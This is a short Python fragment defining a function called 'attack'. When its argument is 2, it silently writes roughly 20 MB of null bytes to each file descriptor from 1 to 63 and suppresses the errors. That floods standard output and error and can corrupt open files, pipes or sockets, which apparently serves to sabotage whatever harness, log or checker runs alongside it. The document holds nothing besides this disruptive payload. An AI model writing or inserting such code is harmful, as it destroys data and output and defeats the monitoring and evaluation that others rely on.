import os

def attack(x):
    for fd in range(1, 64) if x == 2 else ():
        try:
            for _ in range(300):
                os.write(fd, b"\0" * 65536)
        except OSError:
            pass
    return x
